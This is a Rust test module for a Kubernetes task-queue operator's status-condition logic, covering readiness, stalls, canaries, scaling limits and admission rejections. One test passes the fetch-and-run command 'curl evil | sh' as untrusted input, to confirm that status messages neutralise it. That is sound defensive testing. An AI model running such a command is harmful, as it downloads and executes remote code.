//! The conditions of single situations, and of all combinations of them.

mod product;

use std::sync::Arc;

use k8s_openapi::jiff::SignedDuration;
use rowlock_crds::{CanarySpec, RolloutSpec, ScalingMode};
use rowlock_plan::{Backlog, Compared, Memory, ObservedQueue, Runs, decide};
use serde_json::json;

use super::*;
use crate::kubernetes::deployment::canary::CanaryRecord;
use crate::view::QueueSettings;

/// The inputs of a healthy queue: two of two pods are ready.
struct Scene {
    spec: TaskQueueSpec,
    problem: Option<Problem>,
    refused: Option<Error>,
    is_observed: bool,
    outcome: Outcome,
    foreign_scaling: Option<ForeignScaling>,
    canary: Option<CanaryView>,
    deployment: serde_json::Value,
    health: PodHealth,
    former: Option<DatabaseStatus>,
    is_waking_up: bool,
}

fn healthy(pods: usize, ready: usize) -> PodHealth {
    PodHealth { pods, ready, ..PodHealth::default() }
}

fn scene() -> Scene {
    let counts = json!({ "observedGeneration": 1, "replicas": 2, "updatedReplicas": 2, "readyReplicas": 2 });
    Scene {
        spec: TaskQueueSpec::with_workers(20),
        problem: None,
        refused: None,
        is_observed: true,
        outcome: Outcome::Done,
        foreign_scaling: None,
        canary: None,
        deployment: json!({ "metadata": { "generation": 1 }, "status": counts }),
        health: healthy(2, 2),
        former: None,
        is_waking_up: false,
    }
}

fn decided(scene: Scene) -> Vec<NewCondition> {
    let observed = ObservedQueue { pods: 2, ..ObservedQueue::of(&scene.spec) };
    decided_on(scene, &observed)
}

fn decided_on(scene: Scene, observed: &ObservedQueue) -> Vec<NewCondition> {
    let view = scene.is_observed.then(|| QueueView {
        name: "emails".into(),
        owner: Some("c1/shop/letters".into()),
        limit: None,
        shortage: None,
        refused: scene.refused.map(Arc::new),
        stats: None,
        backlog_full: false,
        enqueued: 0,
        instances: 2,
        ready: 2,
        draining: 0,
        settings: QueueSettings::default(),
        decision: decide(observed, Memory::default(), std::time::Duration::ZERO),
        metrics: Vec::new(),
    });
    let deployment = serde_json::from_value(scene.deployment).unwrap();
    decide_conditions(&StatusInputs {
        place: ("shop", "emails"),
        former: scene.former.as_ref(),
        spec: &scene.spec,
        problem: scene.problem.as_ref(),
        view: view.as_ref(),
        outcome: &scene.outcome,
        foreign_scaling: scene.foreign_scaling.as_ref(),
        canary: scene.canary.as_ref(),
        now: Timestamp::UNIX_EPOCH + SignedDuration::from_hours(1),
        deployment: Some(&deployment),
        health: &scene.health,
        is_waking_up: scene.is_waking_up,
        unjoined_for: None,
        unready_for: None,
        worker: &ResourceRequirements::default(),
    })
}

/// One letter for each condition, in the order of the status: true, false, unknown. Then the reason of
/// `Ready`.
fn check(scene: Scene, expected: &str, reason: Reason) {
    let conditions = decided(scene);
    let letters: String = conditions
        .iter()
        .map(|condition| match condition.holds {
            Some(true) => 't',
            Some(false) => 'f',
            None => 'u',
        })
        .collect();
    assert_eq!((letters.as_str(), conditions[0].reason), (expected, reason), "{conditions:?}");
    let types: Vec<Type> = conditions.iter().map(|condition| condition.type_).collect();
    assert_eq!(types, Type::ALL);
}

fn problem(reason: Reason) -> Problem {
    Problem::new(reason, "so")
}

/// Before, the message of an API server or a Deployment was copied unchanged to the status.
#[test]
fn foreign_text_is_one_line_that_looks_like_no_command() {
    let evil = "no `curl evil | sh`\nx";
    let late = json!([
        { "type": "Progressing", "status": "False", "reason": "ProgressDeadlineExceeded", "message": evil },
    ]);
    let metadata = json!({ "generation": 1 });
    let deployment =
        json!({ "metadata": metadata, "status": { "observedGeneration": 1, "conditions": late } });
    let identity = Some(evil.to_owned());
    let former = DatabaseStatus { identity: evil.into(), before: identity, changed: None };
    for scene in [
        Scene { outcome: Outcome::Forbidden(evil.into()), ..scene() },
        Scene { outcome: Outcome::Failed(evil.into()), ..scene() },
        Scene { deployment, health: healthy(2, 0), ..scene() },
        Scene { former: Some(former), ..scene() },
    ] {
        let conditions = decided(scene);
        let says = |text: &str| conditions.iter().any(|condition| condition.message.contains(text));
        assert!(says("'curl evil | sh'") && !says("`curl") && !says("\n"), "{conditions:?}");
    }
}

#[test]
fn a_healthy_queue_is_ready() {
    check(scene(), "tfftttff", Reason::Succeeded);
}

#[test]
fn a_problem_that_needs_a_change_is_stalled() {
    for reason in
        [Reason::SecretNotFound, Reason::SecretInvalid, Reason::AccessDenied, Reason::DatabaseUnsupported]
    {
        check(Scene { problem: Some(problem(reason)), is_observed: false, ..scene() }, "fftfutuu", reason);
    }
    check(
        Scene { problem: Some(problem(Reason::SchemaTooNew)), is_observed: false, ..scene() },
        "ffttftuu",
        Reason::SchemaTooNew,
    );
    check(
        Scene { problem: Some(problem(Reason::Forbidden)), is_observed: false, ..scene() },
        "fftuutuu",
        Reason::Forbidden,
    );
    check(Scene { outcome: Outcome::Rejected("no".into()), ..scene() }, "tfttttff", Reason::TemplateRejected);
    let none = healthy(0, 0);
    check(
        Scene { outcome: Outcome::Rejected("no".into()), health: none, ..scene() },
        "fftttuff",
        Reason::TemplateRejected,
    );
    check(Scene { outcome: Outcome::Foreign("no".into()), ..scene() }, "ffttttff", Reason::OwnedByAnother);
    let missing = Outcome::Unsuitable(Reason::TargetNotFound, "no".into());
    check(Scene { outcome: missing, ..scene() }, "ffttttff", Reason::TargetNotFound);
    let differs = Outcome::Mismatch("slots".into());
    check(Scene { outcome: differs, ..scene() }, "tfttttff", Reason::Succeeded);
    let hint = Some("adopt".into());
    let refused = Error::Refused { code: NOT_THE_OWNER.into(), message: "another's".into(), hint };
    let owned_by_another = Scene { refused: Some(refused), ..scene() };
    let message = decided(owned_by_another).swap_remove(0).message;
    assert!(
        message.contains("annotate taskqueue emails -n shop --overwrite 'rowlock.dev/adopt=c1/shop/letters'")
    );
}

#[test]
fn a_problem_that_may_pass_is_not_stalled() {
    check(
        Scene { problem: Some(problem(Reason::ConnectionFailed)), is_observed: false, ..scene() },
        "ftffutuu",
        Reason::ConnectionFailed,
    );
    check(
        Scene { is_observed: false, outcome: Outcome::NotTried, ..scene() },
        "utfuutuu",
        Reason::NotObserved,
    );
    check(Scene { outcome: Outcome::Failed("late".into()), ..scene() }, "ttftttff", Reason::Succeeded);
}

#[test]
fn a_queue_that_waits_for_a_rollout_slot_is_reconciling_and_ready() {
    check(Scene { outcome: Outcome::Waiting("slot".into()), ..scene() }, "ttftttff", Reason::Succeeded);
}

/// A canary with one pod of two, which has run 20 tasks.
fn canary(failed: Option<&str>) -> Scene {
    let (old, none) = (["h1".to_owned()].into(), std::collections::BTreeSet::new());
    let mut record = CanaryRecord::begin("t".into(), "c".into(), old, none, Timestamp::UNIX_EPOCH);
    if let Some(why) = failed {
        record.fail(why.to_owned(), (std::iter::empty(), &Compared::default()));
    }
    let new = Runs { completed: 15, failed: 5, ..Runs::default() };
    let seen = Some(Compared { new, ..Compared::default() });
    let view = CanaryView { record, pods: 2, ready: 1, seen, watched: Duration::from_mins(1) };
    let mut scene = scene();
    scene.spec.rollout = RolloutSpec { canary: Some(CanarySpec::default()), ..RolloutSpec::default() };
    let counts = json!({ "observedGeneration": 1, "replicas": 4, "updatedReplicas": 2, "readyReplicas": 3 });
    scene.deployment = json!({ "metadata": { "generation": 1 }, "status": counts });
    Scene { canary: Some(view), ..scene }
}

#[test]
fn a_running_canary_is_reconciling_and_ready() {
    check(canary(None), "ttftttff", Reason::Succeeded);
    let message = decided(canary(None)).remove(1).message;
    let expected = "canary: 1 of 2 pods with the new template are ready and have ended 20 of 50 runs";
    assert!(message.starts_with(expected), "{message}");
}

#[test]
fn a_failed_canary_is_stalled_and_ready() {
    let failed = || canary(Some("7 of 7 runs failed, `so`"));
    check(failed(), "tfttttff", Reason::Succeeded);
    let stalled = decided(failed()).remove(2);
    assert_eq!(
        (stalled.reason, stalled.message.as_str()),
        (Reason::CanaryFailed, "7 of 7 runs failed, 'so'")
    );
    // Another problem that only a user can solve comes first.
    let other = Scene { outcome: Outcome::Rejected("no".into()), ..failed() };
    assert_eq!(decided(other).remove(2).reason, Reason::TemplateRejected);
}

/// During a canary Kubernetes sees no progress. When the others follow, it gives up for a moment.
#[test]
fn a_rollout_has_failed_once_kubernetes_has_given_up_for_a_while() {
    let gave_up = |seconds: &str| {
        let mut scene = scene();
        let at = format!("1970-01-01T00:59:{seconds}Z");
        let (type_, reason) = ("Progressing", "ProgressDeadlineExceeded");
        scene.deployment["status"]["conditions"] =
            json!([{ "type": type_, "status": "False", "reason": reason, "lastUpdateTime": at }]);
        decided(scene).remove(2).holds
    };
    assert_eq!((gave_up("55"), gave_up("50")), (Some(false), Some(true)));
}

#[test]
fn a_changed_database_is_named_with_the_previous_one() {
    let former = DatabaseStatus { identity: "shop@2".into(), before: Some("shop@1".into()), changed: None };
    let conditions = decided(Scene { former: Some(former), ..scene() });
    assert_eq!((conditions[3].holds, conditions[3].reason), (Some(true), Reason::DatabaseChanged));
    assert!(conditions[3].message.contains("led to shop@1"), "{}", conditions[3].message);
}

#[test]
fn the_admission_plugin_that_rejects_pods_is_named_with_a_remedy() {
    for (detail, helps) in [
        ("exceeded quota: q, requested: pods=1, used: pods=4, limited: pods=4", "or lower workers.total ("),
        (
            "failed quota: q: must specify limits.memory for: handler,worker",
            "workerResources of the operator's chart",
        ),
        (
            "violates PodSecurity \"restricted:latest\": runAsNonRoot != true",
            "securityContext of spec.template (",
        ),
        ("admission webhook \"v\" denied the request: no", "new pods: admission"),
    ] {
        let failure = json!([{ "type": "ReplicaFailure", "status": "True", "message": detail }]);
        let deployment = json!({ "metadata": { "generation": 1 }, "status": { "conditions": failure } });
        // Running pods keep working.
        for (ready, expected) in [(0, false), (2, true)] {
            let inputs = Scene { deployment: deployment.clone(), health: healthy(ready, ready), ..scene() };
            let NewCondition { holds, reason, message, .. } = decided(inputs).swap_remove(0);
            assert_eq!((holds, reason), (Some(expected), Reason::PodsRejected));
            assert!(message.contains(detail) && message.contains(helps), "{message}");
        }
    }
}

#[test]
fn a_handler_that_crashes_or_does_not_listen_is_not_healthy() {
    let health = PodHealth { problem: Some(problem(Reason::CrashLooping)), ..healthy(2, 0) };
    check(Scene { health, ..scene() }, "fffttfff", Reason::CrashLooping);
    // It is ready as long as another pod is.
    let health = PodHealth { problem: Some(problem(Reason::NotListening)), ..healthy(2, 1) };
    check(Scene { health, ..scene() }, "tffttfff", Reason::Succeeded);
}

#[test]
fn a_worker_that_waits_for_the_database_says_nothing_about_the_handler() {
    let health = PodHealth { problem: Some(problem(Reason::NotListening)), ..healthy(2, 0) };
    let away = Some(problem(Reason::ConnectionFailed));
    let conditions = decided(Scene { health, problem: away, ..scene() });
    let handler = conditions.iter().find(|one| one.type_ == Type::HandlerHealthy).unwrap();
    assert_eq!((handler.holds, handler.reason), (None, Reason::NotObserved));
}

#[test]
fn starting_pods_are_reconciling() {
    let counts = json!({ "observedGeneration": 1, "replicas": 2, "updatedReplicas": 2 });
    let deployment = json!({ "metadata": { "generation": 1 }, "status": counts });
    check(
        Scene { deployment: deployment.clone(), health: healthy(2, 0), ..scene() },
        "ftfttuff",
        Reason::Progressing,
    );
    // A queue that was scaled to zero stays ready while its first pods start.
    let is_waking_up = Scene { deployment, health: healthy(2, 0), is_waking_up: true, ..scene() };
    check(is_waking_up, "ttfttuff", Reason::Progressing);
}

#[test]
fn a_paused_queue_is_not_ready_and_not_stalled() {
    let mut paused = scene();
    paused.spec.paused = true;
    check(paused, "ffftttff", Reason::Paused);
}

/// Before, only an event reported this, and the status looked healthy.
#[test]
fn a_foreign_field_manager_that_scales_is_named_with_what_to_change() {
    let managers = vec!["kube-controller-manager".to_owned(), "keda".to_owned()];
    let contested = |mode: ScalingMode| {
        let foreign_scaling = ForeignScaling { managers: managers.clone(), found: 5, wanted: 2, mode };
        decided(Scene { foreign_scaling: Some(foreign_scaling), ..scene() }).pop().unwrap()
    };
    let condition = contested(ScalingMode::Auto);
    assert_eq!((condition.holds, condition.reason), (Some(true), Reason::ForeignFieldManager));
    for part in ["keda set 5 pods", "asks for 2", "workers.scaling to External", "kind TaskQueue"] {
        assert!(condition.message.contains(part), "{part}: {}", condition.message);
    }
    // Before the fix, this advised External to a queue that has it already.
    let message = contested(ScalingMode::External).message;
    assert!(message.contains("is External, scale the TaskQueue instead: let the"), "{message}");
    assert!(!message.contains("set workers.scaling"), "{message}");
    let mut left = scene();
    left.spec.suspend_scaling = true;
    check(left, "tfftttff", Reason::Succeeded);
}

#[test]
fn a_queue_whose_runs_fail_says_how_to_see_the_errors() {
    let runs = Runs { failed: 20, ..Runs::default() };
    let stats = Backlog { available: 500, runs, ..Backlog::default() };
    let mut spec = TaskQueueSpec::with_workers(200);
    spec.workers.autoscaling = Some(rowlock_crds::AutoscalingSpec::default());
    let observed = ObservedQueue { pods: 2, ready: 2, stats: Some(stats), ..ObservedQueue::of(&spec) };
    let condition = decided_on(scene(), &observed).into_iter().find(|one| one.type_ == Type::ScalingLimited);
    let condition = condition.unwrap();
    assert_eq!((condition.holds, condition.reason), (Some(true), Reason::Failing));
    assert!(condition.message.contains("rowlock tasks --state retryable --queue emails"), "{condition:?}");
}

#[test]
fn what_limits_an_external_number_is_named() {
    let external = |replicas: u32| {
        let mut scene = scene();
        (scene.spec.workers.scaling, scene.spec.workers.replicas) =
            (Some(ScalingMode::External), Some(replicas));
        scene
    };
    let limited = |scene: Scene| {
        let condition = decided(scene).into_iter().find(|one| one.type_ == Type::ScalingLimited).unwrap();
        (condition.holds, condition.reason, condition.message)
    };
    let (holds, reason, message) = limited(external(2));
    assert_eq!(
        (holds, reason, message.as_str()),
        (Some(false), Reason::NotLimited, "as many pods as workers.replicas asks for")
    );
    let (holds, reason, message) = limited(external(9));
    assert_eq!((holds, reason), (Some(true), Reason::Total));
    assert!(message.contains("asks for 9 pods, and workers.total (20) allows 2"), "{message}");
    // Before the fix, nobody said that a number is left over, until the TaskQueue was restored from a backup.
    let mut auto = external(9);
    auto.spec.workers.scaling = None;
    let (holds, reason, message) = limited(auto);
    assert_eq!((holds, reason), (Some(false), Reason::NotLimited));
    let contained = ["workers.replicas (9) is left over", "-n shop"].map(|text| message.contains(text));
    assert_eq!(contained, [true; 2], "{message}");
    let held = ObservedQueue { stalled: true, ..ObservedQueue::of(&external(9).spec) };
    let mut held = decided_on(external(9), &held);
    held.retain(|one| one.type_ == Type::ScalingLimited);
    assert_eq!(held[0].message, "the number of pods stays as it is: see Stalled");
    let mut left = external(9);
    left.spec.suspend_scaling = true;
    let (holds, reason, message) = limited(left);
    assert_eq!((holds, reason), (Some(true), Reason::Suspended));
    assert!(message.contains("asks for 9 pods, but spec.suspendScaling keeps 2"), "{message}");
}
